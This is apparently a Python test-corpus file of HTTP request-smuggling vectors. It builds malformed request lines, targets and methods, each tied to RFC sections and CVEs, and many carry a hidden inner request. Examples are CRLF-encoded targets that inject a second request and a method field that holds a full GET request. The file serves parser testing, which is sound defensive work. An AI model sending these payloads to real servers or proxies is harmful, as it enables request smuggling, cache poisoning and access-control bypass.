"""Request lines (RFC 9112 section 3): separators, targets, versions, methods."""

from smuggling.corpus import HIDDEN, HOST, INNER, LENGTH, OUTER, post, vector

REST = HOST + b"Content-Length: " + LENGTH + b"\r\n\r\n" + HIDDEN
O = OUTER

for _name, _source, _line in [
    ("two spaces before target", "RFC 9112 3; CVE-2016-8743", b"POST  " + O + b" HTTP/1.1\r\n"),
    ("two spaces behind target", "RFC 9112 3; CVE-2016-8743", b"POST " + O + b"  HTTP/1.1\r\n"),
    ("tab before target", "RFC 9112 3; CVE-2016-8743", b"POST\t" + O + b" HTTP/1.1\r\n"),
    ("tab behind target", "RFC 9112 3; CVE-2016-8743", b"POST " + O + b"\tHTTP/1.1\r\n"),
    ("vertical tab before target", "RFC 9112 3", b"POST\x0b" + O + b" HTTP/1.1\r\n"),
    ("form feed behind target", "RFC 9112 3", b"POST " + O + b"\x0cHTTP/1.1\r\n"),
    ("CR before target", "RFC 9112 3; CVE-2016-8743", b"POST\r" + O + b" HTTP/1.1\r\n"),
    ("CR behind target", "RFC 9112 3; CVE-2016-8743", b"POST " + O + b"\rHTTP/1.1\r\n"),
    ("LF behind target", "RFC 9112 3", b"POST " + O + b"\nHTTP/1.1\r\n"),
    ("NUL behind method", "RFC 9112 3", b"POST\x00 " + O + b" HTTP/1.1\r\n"),
    ("NUL behind target", "RFC 9112 3", b"POST " + O + b"\x00 HTTP/1.1\r\n"),
    ("NUL behind version", "RFC 9112 3", b"POST " + O + b" HTTP/1.1\x00\r\n"),
    ("space behind version", "RFC 9112 3", b"POST " + O + b" HTTP/1.1 \r\n"),
    ("tab behind version", "RFC 9112 3", b"POST " + O + b" HTTP/1.1\t\r\n"),
    ("space before method", "RFC 9112 3", b" POST " + O + b" HTTP/1.1\r\n"),
    ("tab before method", "RFC 9112 3", b"\tPOST " + O + b" HTTP/1.1\r\n"),
    ("no method", "RFC 9112 3", b" " + O + b" HTTP/1.1\r\n"),
    ("no target", "RFC 9112 3", b"POST HTTP/1.1\r\n"),
    ("two spaces for a target", "RFC 9112 3", b"POST  HTTP/1.1\r\n"),
    ("four words", "RFC 9112 3", b"POST " + O + b" " + INNER + b" HTTP/1.1\r\n"),
    ("words behind version", "RFC 9112 3", b"POST " + O + b" HTTP/1.1 GET " + INNER + b" HTTP/1.1\r\n"),
    ("two line ends CR", "RFC 9112 2.2", b"POST " + O + b" HTTP/1.1\r\r\n"),
    ("line ends with CR", "RFC 9112 2.2; CVE-2023-30589", b"POST " + O + b" HTTP/1.1\r"),
    ("bare CR before", "RFC 9112 2.2", b"\rPOST " + O + b" HTTP/1.1\r\n"),
    ("no version", "RFC 9112 3; CVE-2017-7656", b"POST " + O + b"\r\n"),
    ("HTTP/0.9", "RFC 9112 2.3; CVE-2017-7656", b"POST " + O + b" HTTP/0.9\r\n"),
    ("HTTP/1.2", "RFC 9110 2.5", b"POST " + O + b" HTTP/1.2\r\n"),
    ("HTTP/1.9", "RFC 9110 2.5", b"POST " + O + b" HTTP/1.9\r\n"),
    ("HTTP/2.0", "RFC 9112 2.3", b"POST " + O + b" HTTP/2.0\r\n"),
    ("HTTP/2", "RFC 9112 2.3", b"POST " + O + b" HTTP/2\r\n"),
    ("HTTP/3.0", "RFC 9112 2.3", b"POST " + O + b" HTTP/3.0\r\n"),
    ("HTTP/1", "RFC 9112 2.3", b"POST " + O + b" HTTP/1\r\n"),
    ("HTTP/1.", "RFC 9112 2.3", b"POST " + O + b" HTTP/1.\r\n"),
    ("HTTP/1.10", "RFC 9112 2.3", b"POST " + O + b" HTTP/1.10\r\n"),
    ("HTTP/01.1", "RFC 9112 2.3", b"POST " + O + b" HTTP/01.1\r\n"),
    ("HTTP/1.01", "RFC 9112 2.3", b"POST " + O + b" HTTP/1.01\r\n"),
    ("HTTP/11", "RFC 9112 2.3", b"POST " + O + b" HTTP/11\r\n"),
    ("HTTP/1.1.1", "RFC 9112 2.3", b"POST " + O + b" HTTP/1.1.1\r\n"),
    ("HTTP/-1.1", "RFC 9112 2.3", b"POST " + O + b" HTTP/-1.1\r\n"),
    ("HTTP/1,1", "RFC 9112 2.3", b"POST " + O + b" HTTP/1,1\r\n"),
    ("HTTP /1.1", "RFC 9112 2.3", b"POST " + O + b" HTTP /1.1\r\n"),
    ("HTTP/ 1.1", "RFC 9112 2.3", b"POST " + O + b" HTTP/ 1.1\r\n"),
    ("http/1.1", "RFC 9112 2.3", b"POST " + O + b" http/1.1\r\n"),
    ("HTTPS/1.1", "RFC 9112 2.3", b"POST " + O + b" HTTPS/1.1\r\n"),
    ("ICY/1.1", "RFC 9112 2.3", b"POST " + O + b" ICY/1.1\r\n"),
    ("full-width version", "RFC 9112 2.3", "HTTP/1.\uff11".join(["POST /outer-@@@@ ", "\r\n"]).encode()),
    ("half a line", "RFC 9112 3", b"POST\r\n"),
    ("a header for a line", "RFC 9112 3", b"Host: a.test\r\n"),
]:
    vector("line", f"line: {_name}", _source, _line + REST)

for _name, _source, _target in [
    ("fragment", "RFC 9112 3.2; CVE-2023-45539", O + b"#f"),
    ("fragment hides a target", "RFC 9112 3.2; CVE-2023-45539", O + b"#" + INNER),
    ("only a fragment", "RFC 9112 3.2", b"#" + O),
    ("no slash", "RFC 9112 3.2", O[1:]),
    ("two slashes", "RFC 9112 3.2.1", b"/" + O),
    ("backslash", "RFC 3986 2", b"\\" + O[1:]),
    ("backslash behind", "RFC 3986 2", O + b"\\..\\x"),
    ("dots", "RFC 3986 5.2.4", b"/x/.." + O),
    ("encoded dots", "RFC 3986 2.1", b"/x/%2e%2e" + O),
    ("encoded slash", "RFC 3986 2.1", O + b"%2f.."),
    ("encoded NUL", "RFC 3986 2.1", O + b"%00"),
    ("broken percent", "RFC 3986 2.1", O + b"%"),
    ("percent zz", "RFC 3986 2.1", O + b"%zz"),
    ("encoded line end and request", "RFC 9112 11.1; CVE-2023-25690",
     O + b"%20HTTP/1.1%0d%0aHost:%20a.test%0d%0a%0d%0aGET%20" + INNER),
    ("encoded line end in query", "RFC 9112 11.1; CVE-2023-25690", O + b"?x=%20HTTP/1.1%0d%0a%0d%0aGET%20" + INNER),
    ("bare CR", "RFC 9112 2.2", O + b"\r"),
    ("SOH", "RFC 3986 2", O + b"\x01"),
    ("ESC", "RFC 3986 2", O + b"\x1b"),
    ("DEL", "RFC 3986 2", O + b"\x7f"),
    ("byte 80", "RFC 3986 2", O + b"\x80"),
    ("byte FF", "RFC 3986 2", O + b"\xff"),
    ("UTF-8", "RFC 3986 2", O + "\u00e4".encode()),
    ("UTF-8 line separator", "RFC 3986 2", O + "\u2028".encode()),
    ("UTF-8 look-alike of LF", "RFC 3986 2", O + "\u010a".encode()),
    ("braces and quotes", "RFC 3986 2", O + b'{}"<>^`|'),
    ("brackets", "RFC 3986 3.2.2", O + b"?a[]=1"),
    ("semicolon", "RFC 3986 3.3", O + b";a=b"),
    ("query with a query", "RFC 3986 3.4", O + b"??a=b?c"),
    ("absolute", "RFC 9112 3.2.2", b"http://a.test" + O),
    ("absolute, upper case", "RFC 9112 3.2.2", b"HTTP://A.TEST" + O),
    ("absolute, https", "RFC 9112 3.2.2", b"https://a.test" + O),
    ("absolute, ftp", "RFC 9112 3.2.2", b"ftp://a.test" + O),
    ("absolute, other host", "RFC 9112 3.2.2", b"http://b.test" + O),
    ("absolute, user information", "RFC 9110 4.2.4", b"http://u:p@a.test" + O),
    ("absolute, at sign twice", "RFC 9110 4.2.4", b"http://a.test@b.test@c.test" + O),
    ("absolute, no host", "RFC 9110 4.2.1", b"http://" + O),
    ("absolute, bad port", "RFC 3986 3.2.3", b"http://a.test:99999" + O),
    ("absolute, letters for a port", "RFC 3986 3.2.3", b"http://a.test:x" + O),
    ("absolute, empty port", "RFC 3986 3.2.3", b"http://a.test:" + O),
    ("absolute, one slash", "RFC 3986 3", b"http:/a.test" + O),
    ("absolute, backslashes", "RFC 3986 3", b"http:\\\\a.test" + O),
    ("absolute, open bracket", "RFC 3986 3.2.2", b"http://[::1" + O),
    ("absolute, address in brackets", "RFC 3986 3.2.2", b"http://[::1]" + O),
    ("absolute, comma", "RFC 3986 3.2.2", b"http://a.test,b.test" + O),
    ("absolute, encoded host", "RFC 3986 3.2.2", b"http://a%2etest" + O),
    ("absolute, encoded line end in host", "RFC 3986 3.2.2", b"http://a.test%0d%0aX:y" + O),
    ("absolute, fragment for a path", "RFC 9112 3.2.2", b"http://a.test#" + O),
    ("absolute, query for a path", "RFC 9112 3.2.2", b"http://a.test?" + O),
    ("absolute in a path", "RFC 9112 3.2.1", b"/http://b.test" + O),
    ("authority on POST", "RFC 9112 3.2.3", b"a.test:80"),
    ("asterisk on POST", "RFC 9112 3.2.4", b"*"),
    ("asterisk with more", "RFC 9112 3.2.4", b"*" + O),
    ("seventeen kilobytes", "RFC 9110 15.5.15", O + b"?" + b"a" * 17_000),
    ("seven kilobytes", "RFC 9112 3", O + b"?" + b"a" * 7_000),
]:
    vector("target", f"target: {_name}", _source, b"POST " + _target + b" HTTP/1.1\r\n" + REST)

for _name, _source, _method in [
    ("lower case", "RFC 9110 9.1", b"post"),
    ("of one letter", "RFC 9110 9.1", b"X"),
    ("POST with a letter before", "RFC 9110 9.1", b"GPOST"),
    ("own", "RFC 9110 9.1", b"FOREBAY"),
    ("M-SEARCH", "RFC 9110 9.1", b"M-SEARCH"),
    ("PROPFIND", "RFC 9110 9.1", b"PROPFIND"),
    ("PURGE", "RFC 9110 9.1", b"PURGE"),
    ("all of tchar", "RFC 9110 5.6.2", b"!#$%&'*+-.^_`|~"),
    ("comma", "RFC 9110 5.6.2", b"POST,GET"),
    ("colon", "RFC 9110 5.6.2", b"POST:"),
    ("slash", "RFC 9110 5.6.2", b"PO/ST"),
    ("brackets", "RFC 9110 5.6.2", b"(POST)"),
    ("quotes", "RFC 9110 5.6.2", b'"POST"'),
    ("at sign", "RFC 9110 5.6.2", b"P@ST"),
    ("space within", "RFC 9110 5.6.2; CVE-2021-39241", b"PO ST"),
    ("tab within", "RFC 9110 5.6.2", b"PO\tST"),
    ("NUL within", "RFC 9110 5.6.2", b"PO\x00ST"),
    ("DEL within", "RFC 9110 5.6.2", b"PO\x7fST"),
    ("byte 80 within", "RFC 9110 5.6.2", b"PO\x80ST"),
    ("BOM before", "RFC 9110 5.6.2", b"\xef\xbb\xbfPOST"),
    ("of a kilobyte", "RFC 9112 3", b"A" * 1024),
    ("of seventeen kilobytes", "RFC 9112 3", b"A" * 17_000),
    ("TRACE", "RFC 9110 9.3.8", b"TRACE"),
    ("CONNECT", "RFC 9110 9.3.6", b"CONNECT"),
    ("a request", "RFC 9112 3; CVE-2021-33193", b"GET " + INNER + b" HTTP/1.1\r\nX: POST"),
]:
    # The last one is two header lines' worth: whoever reads it as a method splits it.
    if _name == "a request":
        vector("method", f"method: {_name}", _source, b"GET " + INNER + b" HTTP/1.1 POST " + OUTER + b" HTTP/1.1\r\n" + REST)
    else:
        vector("method", f"method: {_name}", _source, post(b"Content-Length: " + LENGTH + b"\r\n", HIDDEN, method=_method))

vector("line", "line: ends with LF", "RFC 9112 2.2; CVE-2019-16785", b"POST " + O + b" HTTP/1.1\n" + REST)
vector("line", "line: empty line before", "RFC 9112 2.2", b"\r\nPOST " + O + b" HTTP/1.1\r\n" + REST)
vector("line", "line: ten empty lines before", "RFC 9112 2.2", b"\r\n" * 10 + b"POST " + O + b" HTTP/1.1\r\n" + REST)
vector("line", "line: LF before", "RFC 9112 2.2", b"\nPOST " + O + b" HTTP/1.1\r\n" + REST)
vector("line", "line: preface of HTTP/2", "RFC 9113 3.4", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN)
vector("line", "line: preface of HTTP/2 behind a request", "RFC 9113 3.4",
       post(b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN, method=b"GET"), exact=(1, 0))
vector("line", "line: HTTP/0.9 behind a request", "RFC 9112 2.3; CVE-2017-7656",
       post(b"", b"GET " + INNER + b"\r\n\r\n", method=b"GET"), exact=(1, 0))
vector("line", "line: TLS", "RFC 9112 2.2", b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00" + b"POST " + O + b" HTTP/1.1\r\n" + REST)
vector("line", "line: proxy protocol", "RFC 9112 2.2", b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nPOST " + O + b" HTTP/1.1\r\n" + REST)
